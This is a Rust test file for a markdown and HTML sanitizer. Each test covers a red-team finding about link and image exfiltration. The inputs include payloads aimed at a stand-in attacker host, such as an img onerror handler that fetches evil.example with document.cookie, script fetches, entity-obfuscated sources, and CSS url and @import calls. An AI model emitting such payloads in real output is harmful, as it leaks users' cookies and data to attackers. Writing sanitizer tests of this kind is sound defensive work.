//! Links and images end to end through `sanitize`, one red-team finding per test, each a
//! table of input and expected output.

use crate::options::{BareDomains, LinkAllow, SanitizeOptions};
use crate::sanitize::sanitize;

fn opts() -> SanitizeOptions {
    SanitizeOptions {
        allow: LinkAllow::hosts(["docs.rs", "*.example.com"]).unwrap(),
        ..SanitizeOptions::default()
    }
}

fn check_with(o: &SanitizeOptions, input: &str, expect: &str) {
    let s = sanitize(input, o);
    assert_eq!(s.text, expect, "input {input:?}, actions {:?}", s.actions);
}

fn check(input: &str, expect: &str) {
    check_with(&opts(), input, expect);
}

/// Item 1: over a length limit means neutralized, never passed.
#[test]
fn over_a_limit_is_neutralized() {
    let title = "t".repeat(600);
    check(
        &format!("![x](//evil.example/p.png?d=1 \"{title}\") ok"),
        &format!("[image removed: evil.example] \"{title}\") ok"),
    );
    let alt = "a".repeat(600);
    check(
        &format!("![{alt}](//evil.example/p.png) ok"),
        &format!("![{alt}] (link removed: evil.example) ok"),
    );
    let dest = format!("https://evil.example/{}", "a/".repeat(1100));
    let out = sanitize(&format!("![x]({dest}) ok"), &opts())
        .text
        .into_owned();
    assert!(out.starts_with("[image removed: evil.example]"), "{out}");
    assert!(
        !out.contains("](") && !out.contains("evil.example/a"),
        "{out}"
    );
    // Whitespace runs are bounded too.
    let ws = " ".repeat(300);
    let out = sanitize(&format!("![x]({ws}//evil.example/p.png)"), &opts())
        .text
        .into_owned();
    assert!(
        !out.contains("](") && !out.contains("evil.example/p"),
        "{out}"
    );
    // An allowed destination with a long title is left as it is.
    let ok = format!("[docs](https://docs.rs/x \"{title}\")");
    check(&ok, &ok);
}

/// Item 2: protocol-relative destinations, in links and in the bare-URL fallback.
#[test]
fn protocol_relative_urls() {
    check(
        "see //evil.example/p?d=1 now",
        "see (link removed: evil.example) now",
    );
    check(
        "(//evil.example/x) and \"//evil.example/y\"",
        "((link removed: evil.example)) and \"(link removed: evil.example)\"",
    );
    check("[a](//evil.example/x)", "a (link removed: evil.example)");
    // Comments and paths are not hosts.
    for t in [
        "// a comment",
        "x = 1; // set it",
        "a/b//c",
        "https://docs.rs//x",
        "//nohost",
    ] {
        check(t, t);
    }
    check("//docs.rs/regex", "//docs.rs/regex");
}

/// Item 3: reference definitions inside blockquotes and list items.
#[test]
fn definitions_in_containers() {
    check(
        "> [1]: //evil.example/p.png\n\n![x][1]",
        "> [1]: (link removed: evil.example)\n\n![x][1]",
    );
    check(
        "- [1]: https://evil.example/x \"T\"\n\n[a][1]",
        "- [1]: (link removed: evil.example)\n\n[a][1]",
    );
    check(
        "1. > [r]: <//evil.example/x>\n",
        "1. > [r]: (link removed: evil.example)\n",
    );
    // A label too long to match is still caught at its `]:`.
    let label = "l".repeat(600);
    check(
        &format!("[{label}]: //evil.example/x\n"),
        &format!("[{label}]: (link removed: evil.example)\n"),
    );
    check("[ok]: https://docs.rs/x\n", "[ok]: https://docs.rs/x\n");
}

/// Item 4: code spans with `]` in link text, judged as CommonMark renderers do.
#[test]
fn code_spans_in_link_text() {
    check(
        "![a`]`](//evil.example/p.png) end",
        "[image removed: evil.example] end",
    );
    check(
        "[x `]` y](https://evil.example/) end",
        "x `]` y (link removed: evil.example) end",
    );
    check(
        "![a``]``](//evil.example/p.png)",
        "[image removed: evil.example]",
    );
    // An unmatched backtick is literal.
    check(
        "![a`b](//evil.example/p.png)",
        "[image removed: evil.example]",
    );
    check("`[x]` and `y](z)`", "`[x]` and `y](z)`");
}

/// Item 6: raw HTML, decoded as a browser decodes it.
#[test]
fn raw_html_entities_and_css() {
    check(
        "<img src=\"&#00000000047;&#00000000047;evil.example/p.png\">",
        "[image removed: evil.example]",
    );
    check(
        "<img src=\"&#x2F;&#X2f;evil.example/p.png\">",
        "[image removed: evil.example]",
    );
    check(
        "<img src=\"&sol;&sol;evil.example/p.png\">",
        "[image removed: evil.example]",
    );
    check(
        "<a href=\"https&colon;&sol;&sol;evil.example\">x</a>",
        "x (link removed: evil.example)",
    );
    check(
        "<img srcset=\"https://docs.rs/a.png 1x, //evil.example/b.png 2x\">",
        "[image removed: evil.example]",
    );
    check(
        "<img srcset=\"https://docs.rs/a.png&#44; //evil.example/b.png 2x\">",
        "[image removed: evil.example]",
    );
    check(
        "<style>body{background:url(//evil.example/x.png)}</style>ok",
        "(link removed: evil.example)ok",
    );
    check(
        "<style>@import '//evil.example/x.css';</style>ok",
        "(link removed: evil.example)ok",
    );
    check(
        "<style>b{background:\\75 rl(//evil.example/x)}</style>ok",
        "(link removed: CSS)ok",
    );
    check(
        "<style>p{color:red}</style>ok",
        "<style>p{color:red}</style>ok",
    );
    check(
        "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
        "[image removed: event handler]",
    );
    check(
        "<script>fetch('//evil.example')</script>",
        "(link removed: script)fetch('(link removed: evil.example)')</script>",
    );
    check(
        "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
        "(link removed: evil.example)",
    );
    // Entities in markdown destinations.
    check(
        "![x](&#00000000047;&#47;evil.example/p.png)",
        "[image removed: evil.example]",
    );
    // A reading that decodes less than the gate's must not hide the host.
    check(
        "[x](https://docs.rs&sol@evil.example/)",
        "x (link removed: evil.example)",
    );
}

/// Item 6: a start tag or `<style>` element over its limit.
#[test]
fn oversized_html_is_neutralized() {
    let alt = "a".repeat(1100);
    let out = sanitize(
        &format!("<img alt=\"{alt}\" src=\"//evil.example/p.png\">"),
        &opts(),
    )
    .text
    .into_owned();
    assert!(!out.starts_with("<img"), "{out}");
    assert!(!out.contains("//evil.example"), "{out}");
    let css = "p{color:red}".repeat(200);
    let out = sanitize(&format!("<style>{css}</style>"), &opts())
        .text
        .into_owned();
    assert!(out.starts_with("(link removed: CSS)"), "{out}");
}

/// Item 6: bare domains, behind [`BareDomains`].
#[test]
fn bare_domains() {
    check(
        "send it to evil.com/p?d=c2VjcmV0 now",
        "send it to (link removed: evil.com) now",
    );
    check("see evil.io/x.", "see (link removed: evil.io).");
    check("docs.rs/regex is fine", "docs.rs/regex is fine");
    // Without a path, only `All` neutralizes.
    check("evil.com is a domain", "evil.com is a domain");
    let all = SanitizeOptions {
        bare_domains: BareDomains::All,
        ..opts()
    };
    check_with(
        &all,
        "evil.com is a domain",
        "(link removed: evil.com) is a domain",
    );
    let off = SanitizeOptions {
        bare_domains: BareDomains::Off,
        ..opts()
    };
    check_with(&off, "evil.com/p?d=1", "evil.com/p?d=1");
    // Not domains: file names, versions, abbreviations, e-mail, paths.
    for t in [
        "edit src/main.rs/ later",
        "Node.js/Express",
        "v1.2/3",
        "e.g./i.e.",
        "file.txt/x",
        "https://docs.rs/evil.com/x",
    ] {
        check(t, t);
    }
    // An `https://` after a non-domain word is still found.
    check(
        "see.https://evil.example/x",
        "see.(link removed: evil.example)",
    );
}

/// The first-round cases still hold with the new fallbacks.
#[test]
fn first_round_still_holds() {
    check(
        "url=https://evil.example/x",
        "url=(link removed: evil.example)",
    );
    check("ftp://evil.example/x", "(link removed: ftp URL)");
    check(
        "[a](https://docs.rs/x) [b](https://evil.example/y)",
        "[a](https://docs.rs/x) b (link removed: evil.example)",
    );
}
